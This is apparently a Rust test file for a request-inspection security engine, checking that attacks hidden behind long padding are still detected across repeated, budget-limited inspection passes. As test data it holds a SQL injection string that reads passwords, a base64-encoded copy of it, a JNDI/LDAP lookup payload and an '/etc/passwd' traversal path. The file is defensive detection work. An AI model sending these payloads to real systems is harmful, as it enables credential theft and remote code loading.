//! What one look at a request does not reach is looked at again, as often as it takes and the reserve
//! lasts.

#[path = "support/worst.rs"]
mod worst;

use serde_json::json;
use threat_agent_engine::config::OnUninspected;
use threat_agent_engine::inspect::{Family, Findings, Inspector, Part};
use threat_agent_engine::request::Stage;
use threat_agent_engine::signal::Kind;
use threat_agent_engine::state::{Ban, By, Key, Measure, Scope, State};
use threat_agent_engine::verdict::Uninspected;
use threat_agent_engine::{
    Action, Body, Category, Config, Engine, Identity, LocalState, Memory, Request,
};

const ATTACK: &str = "1' union select null,password from users-- ";

/// Suspicious by its looks, each in its own way, and nothing.
fn padding(values: usize) -> Vec<String> {
    let one = |n| format!("it's; a '{n}' (c) <d> & e=f");
    (0..values).map(one).collect()
}

fn posted(body: &[u8]) -> Request<'_> {
    Request {
        method: b"POST",
        path: b"/v1/orders",
        headers: b"Content-Type: application/json\r\nUser-Agent: curl/8.5.0 (it's)\r\n",
        body: Body {
            bytes: body,
            ..Body::default()
        },
        ..Request::default()
    }
}

#[test]
fn an_attack_behind_any_padding_is_found_by_a_later_look() {
    let body = json!({"a": padding(1_500), "q": ATTACK}).to_string();
    let request = posted(body.as_bytes());
    let (engine, state) = (
        Engine::new(Config::default()).unwrap(),
        LocalState::default(),
    );
    let first = engine.inspect(&request, &state, 1);
    assert_eq!(first.action, Action::Allow);
    assert!(first.rest > 0 && first.rules.is_empty());
    // It is not known yet whether anything will be left.
    assert_eq!(first.uninspected, Uninspected::default());

    let whole = engine.inspect_whole(&request, &state, 1);
    assert_eq!(whole.action, Action::Block);
    assert!(whole.rules.iter().any(|rule| rule.starts_with("sqli.")));
    assert!(whole.reason.contains(" in json.q"), "{}", whole.reason);
    assert_eq!(whole.uninspected, Uninspected::default());
}

#[test]
fn padding_alone_is_seen_in_whole_and_passes() {
    let body = json!(padding(1_500)).to_string();
    let (engine, state) = (
        Engine::new(Config::default()).unwrap(),
        LocalState::default(),
    );
    let whole = engine.inspect_whole(&posted(body.as_bytes()), &state, 1);
    assert_eq!((whole.action, whole.rules.len()), (Action::Allow, 0));
    assert_eq!(whole.uninspected, Uninspected::default());
}

/// Each detector reads so far into one text only.
#[test]
fn an_attack_behind_a_long_beginning_of_one_value_is_found() {
    let (engine, state) = (
        Engine::new(Config::default()).unwrap(),
        LocalState::default(),
    );
    for padding in [format!("/*{}*/", "x".repeat(17_000)), "4711;".repeat(5_000)] {
        for attack in [ATTACK, "${jndi:ldap://192.0.2.1/a}"] {
            let body = json!({"q": format!("{padding}{attack}")}).to_string();
            let request = posted(body.as_bytes());
            let first = engine.inspect(&request, &state, 1_000_000);
            let shown = &body[..40];
            assert!(first.rules.is_empty() && first.rest > 0, "{attack} {shown}");
            let whole = engine.inspect_whole(&request, &state, 1_000_000);
            assert!(!whole.rules.is_empty(), "{attack} {shown}");

            let body = json!({"q": padding}).to_string();
            let whole = engine.inspect_whole(&posted(body.as_bytes()), &state, 1_000_000);
            assert!(whole.rules.is_empty(), "{:?}", whole.rules);
        }
    }
}

/// Whatever a value is by its looks: a token is one to look at by what it is undone to.
#[test]
fn a_token_behind_cheap_values_is_found() {
    let token = "MScgdW5pb24gc2VsZWN0IG51bGwscGFzc3dvcmQgZnJvbSB1c2Vycy0tIC0g";
    let (engine, state) = (
        Engine::new(Config::default()).unwrap(),
        LocalState::default(),
    );
    for count in 1_240..1_340 {
        let body = json!({"a": vec!["a; b"; count], "q": token}).to_string();
        let whole = engine.inspect_whole(&posted(body.as_bytes()), &state, count as u64 * 60_000);
        assert_eq!(whole.action, Action::Block, "{count}");
    }
}

/// Wherever the budget ends, no value falls between two looks.
#[test]
fn each_value_has_its_look() {
    let mut names: Vec<String> = Vec::new();
    let mut fields = serde_json::Map::new();
    for (n, text) in padding(700).into_iter().enumerate() {
        names.push(format!("f{n}"));
        fields.insert(format!("f{n}"), text.into());
    }
    let body = json!(fields).to_string();
    for query in ["", "a=it's&b=<i>", "q=%3Cb%3E&c=x'y&d=1;2"] {
        let request = Request {
            query: query.as_bytes(),
            ..posted(body.as_bytes())
        };
        let (mut found, mut seen) = (Findings::default(), Vec::new());
        Inspector::new(&Family::ALL).inspect_each(&request, &mut found, |judged| {
            if judged.value.part == Part::Json {
                seen.push(String::from_utf8_lossy(judged.value.name).into_owned());
            }
        });
        assert_eq!(found.rest, 0);
        // One that was cut is seen again.
        seen.dedup();
        let (mut want, mut got) = (names.clone(), seen);
        want.sort_unstable();
        got.sort_unstable();
        assert_eq!(got, want, "{query}");
    }
}

#[test]
fn looks_go_on_and_come_to_an_end() {
    let engine = Engine::new(Config::default()).unwrap();
    let mut went_on = 0;
    for input in worst::inputs() {
        let headers = format!("Content-Type: {}\r\n", input.content_type);
        let request = Request {
            headers: headers.as_bytes(),
            ..posted(&input.body)
        };
        let state = LocalState::default();
        let mut verdict = engine.inspect(&request, &state, 1_000_000);
        let mut looks = 1;
        while verdict.rest > 0 {
            let now_ms = 1_000_000 + looks * 60_000;
            let next = engine.inspect_rest(&request, &verdict, &state, now_ms);
            assert!(next.rest == 0 || next.rest > verdict.rest, "{}", input.name);
            verdict = next;
            looks += 1;
        }
        assert!(looks < 100, "{}: {looks} looks", input.name);
        went_on += u32::from(looks > 1);
    }
    assert!(went_on > 0);
}

/// What is left then is told, and answered as configured.
#[test]
fn the_reserve_ends_and_comes_back() {
    let mut config = Config::default();
    config.payload.on_uninspected = OnUninspected::Block;
    let (engine, state) = (Engine::new(config).unwrap(), LocalState::default());
    let body = json!(padding(1_500)).to_string();
    let request = posted(body.as_bytes());
    let ask = |now_ms| engine.inspect_whole(&request, &state, now_ms);
    let now_ms = 1_000_000;
    assert_eq!(ask(now_ms).action, Action::Allow);
    let refused = (0..100).map(|_| ask(now_ms)).find(|v| v.action.refuses());
    let refused = refused.expect("a reserve has an end");
    assert_eq!(refused.rules, ["uninspected.over_budget"]);
    assert!(refused.uninspected_bytes > 0 && refused.rest == 0);
    assert_eq!(ask(now_ms + 10_000).action, Action::Allow);
}

/// Nobody can look again at a request that has ended.
#[test]
fn a_late_look_is_the_only_one() {
    let body = json!(padding(1_500)).to_string();
    let request = Request {
        stage: Stage::Late,
        ..posted(body.as_bytes())
    };
    let engine = Engine::new(Config::default()).unwrap();
    let verdict = engine.inspect(&request, &LocalState::default(), 1);
    assert_eq!(verdict.rest, 0);
    assert!(verdict.uninspected.contains(Uninspected::OVER_BUDGET));
}

#[test]
fn a_request_is_counted_once_however_often_it_is_looked_at() {
    let limit =
        json!({"id": "few", "by": "client_ip", "window": "60s", "limit": 3, "action": "throttle"});
    let config = Config {
        limits: vec![serde_json::from_value(limit).unwrap()],
        ..Config::default()
    };
    let (engine, state) = (Engine::new(config).unwrap(), LocalState::default());
    let body = json!(padding(600)).to_string();
    let request = Request {
        identity: Identity {
            client: Some([192, 0, 2, 7].into()),
            route: b"r",
            ..Identity::default()
        },
        ..posted(body.as_bytes())
    };
    assert!(engine.inspect(&request, &state, 999_000).rest > 0);
    for nth in 2..=4 {
        let refuses = engine
            .inspect_whole(&request, &state, 1_000_000)
            .action
            .refuses();
        assert_eq!(refuses, nth > 3, "request {nth}");
    }
}

/// What is found in each of its looks is one request's.
#[test]
fn a_request_is_told_once_by_all_that_was_found_in_it() {
    let mut config = Config::default();
    config.payload.action = serde_json::from_value(json!("tag")).unwrap();
    let (engine, state) = (Engine::new(config).unwrap(), LocalState::default());
    let padding = json!(padding(1_500)).to_string();
    let body = format!(
        r#"{{"p": "../../../etc/passwd", "a": {padding}, "q": "{ATTACK}", "b": {padding}}}"#
    );
    let request = Request {
        identity: Identity {
            client: Some([192, 0, 2, 7].into()),
            route: b"r",
            ..Identity::default()
        },
        ..posted(body.as_bytes())
    };
    let told = || {
        let mut told = Vec::new();
        state.drain(0, &mut |signal| {
            told.push((signal.kind, signal.value, signal.reference))
        });
        told
    };
    let first = engine.inspect(&request, &state, 1_000_000);
    assert!(first.rest > 0 && first.action == Action::Tag && !first.rules.is_empty());
    assert!(told().is_empty(), "not all is seen yet");
    let mut verdict = first.clone();
    while verdict.rest > 0 {
        verdict = engine.inspect_rest(&request, &verdict, &state, 1_000_000);
    }
    for family in ["traversal.", "sqli."] {
        let speaks = |rule: &&_| str::starts_with(rule, family);
        assert!(
            verdict.rules.iter().any(|rule| speaks(&rule.as_str())),
            "{:?}",
            verdict.rules
        );
    }
    assert_eq!(verdict.incident, first.incident);
    assert_eq!(told(), [(Kind::Payload, 1, first.incident)]);
}

/// What is only looked for when a request arrives is said of all of it, and what both looks show once.
#[test]
fn what_the_head_shows_stays_when_the_body_is_seen() {
    let limit =
        json!({"id": "one", "by": "client_ip", "window": "60s", "limit": 1, "action": "block"});
    let config = Config {
        limits: vec![serde_json::from_value(limit).unwrap()],
        ..Config::default()
    };
    let (engine, state) = (Engine::new(config).unwrap(), LocalState::default());
    let identity = Identity {
        client: Some([192, 0, 2, 7].into()),
        workspace: b"w",
        route: b"r",
        ..Identity::default()
    };
    let suspicion = Ban {
        until_ms: 2_000_000,
        category: Category::Abuse,
        incident: 1,
        measure: Measure::Refuse,
    };
    let suspect = Key::of(&identity, By::Suspect, Scope::Global).unwrap();
    state.ban(&suspect, suspicion, 1_000_000);
    let head = Request {
        identity,
        stage: Stage::Head,
        ..posted(b"")
    };
    engine.inspect(&head, &state, 1_000_000);
    let before = engine.inspect(&head, &state, 1_000_000);
    assert_eq!(before.rules, ["one", "suspect-client"]);
    let body = format!(r#"{{"q": "{ATTACK}"}}"#);
    let whole = Request {
        identity,
        stage: Stage::Body,
        ..posted(body.as_bytes())
    };
    let verdict = engine.inspect_rest(&whole, &before, &state, 1_000_000);
    for rule in ["one", "suspect-client", "sqli.union"] {
        let times = verdict.rules.iter().filter(|one| *one == rule).count();
        assert_eq!(times, 1, "{rule} in {:?}", verdict.rules);
    }
    assert_eq!(verdict.incident, before.incident);
    let mut told = Vec::new();
    state.drain(0, &mut |signal| told.push(signal.value));
    assert_eq!(told, [1]);
}

/// A client whom enforcement does not reach yet is told of once, too, as one is in monitor mode.
#[test]
fn a_request_that_is_spared_is_told_once() {
    for action in ["block", "tag"] {
        let mut config: Config =
            serde_json::from_value(json!({"mode": "enforce", "enforce_ratio": 0.0})).unwrap();
        config.payload.action = serde_json::from_value(json!(action)).unwrap();
        let (engine, state) = (Engine::new(config).unwrap(), LocalState::default());
        let padding = json!(padding(1_500)).to_string();
        let body = format!(r#"{{"q": "{ATTACK}", "a": {padding}}}"#);
        let request = Request {
            identity: Identity {
                client: Some([192, 0, 2, 7].into()),
                route: b"r",
                ..Identity::default()
            },
            ..posted(body.as_bytes())
        };
        let whole = engine.inspect_whole(&request, &state, 1_000_000);
        assert_eq!(whole.action, Action::Allow);
        assert!(whole.rules.iter().any(|rule| rule == "not-enforced"));
        let mut told = Vec::new();
        state.drain(0, &mut |signal| told.push(signal.value));
        assert_eq!(told, [1], "{action}");
    }
}

/// Who has gone before all was seen leaves what was found, and a request that is over.
#[test]
fn what_was_found_is_told_where_nothing_is_left_to_look_at() {
    let mut config = Config::default();
    config.payload.action = serde_json::from_value(json!("tag")).unwrap();
    let (engine, state) = (Engine::new(config).unwrap(), LocalState::default());
    let padding = json!(padding(1_500)).to_string();
    let body = format!(r#"{{"q": "{ATTACK}", "a": {padding}}}"#);
    let request = posted(body.as_bytes());
    let first = engine.inspect(&request, &state, 1_000_000);
    assert!(first.rest > 0 && first.action == Action::Tag);
    let over = engine.inspect_rest(&posted(b""), &first, &state, 1_000_000);
    assert_eq!((over.rest, &over.rules), (0, &first.rules));
    assert!(engine.concludes(&request, &over));
    let mut told = 0;
    state.drain(0, &mut |_| told += 1);
    assert_eq!(told, 1);
}
